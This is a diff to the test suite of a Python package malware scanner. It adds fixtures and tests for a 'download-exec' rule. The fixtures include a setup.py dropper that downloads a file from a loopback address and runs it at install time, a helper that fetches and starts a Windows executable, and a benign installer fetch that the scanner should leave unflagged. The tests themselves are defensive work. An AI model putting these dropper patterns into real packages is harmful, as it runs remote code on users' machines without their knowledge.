@@ -581,6 +581,65 @@ def shutdown_server(proc):
 """
 
 
+TEMPFILE_DROPPER_SETUP = setup_py(
+    "import subprocess\n"
+    "import tempfile\n"
+    "import urllib.request\n"
+    'with urllib.request.urlopen("http://127.0.0.1:9/tool") as response:\n'
+    "    with tempfile.NamedTemporaryFile(delete=False) as handle:\n"
+    "        handle.write(response.read())\n"
+    "        program = handle.name\n"
+    "subprocess.call([program])\n"
+)
+EXE_FETCHER_LIBRARY = """import subprocess
+
+import requests
+
+
+def fetch(url, path):
+    with open(path, "wb") as handle:
+        handle.write(requests.get(url).content)
+
+
+def start(path):
+    subprocess.Popen(path)
+
+
+def main():
+    fetch("http://127.0.0.1:9/tool.exe", "tool.exe")
+    start("tool.exe")
+"""
+INSTALLER_FETCHER_LIBRARY = """import os
+import sys
+import tempfile
+from urllib.request import urlopen
+
+
+def bootstrap(url):
+    with tempfile.NamedTemporaryFile(suffix=".py") as handle:
+        handle.write(urlopen(url).read())
+        handle.flush()
+        return os.system(f"{sys.executable} {handle.name} --user")
+"""
+
+
+def test_download_exec_fires_through_temporary_file(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=TEMPFILE_DROPPER_SETUP), scanner)
+    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_download_exec_fires_for_windows_program_when_called(tmp_path: Path, scanner: Scanner) -> None:
+    # A Windows program fetched from a hard-coded address and started: a dropper even if only called.
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/util.py": EXE_FETCHER_LIBRARY}), scanner)
+    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_download_exec_installer_fetch_when_called_is_not_malicious(tmp_path: Path, scanner: Scanner) -> None:
+    # get-pip.py style: fetch an installer from its vendor and run it, only when asked to.
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/boot.py": INSTALLER_FETCHER_LIBRARY}), scanner)
+    assert_quiet(result, "download-exec", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)
+
+
 def test_sabotage_fires(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {INIT: SABOTAGE_INIT}), scanner)
     assert_fires(result, "sabotage", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
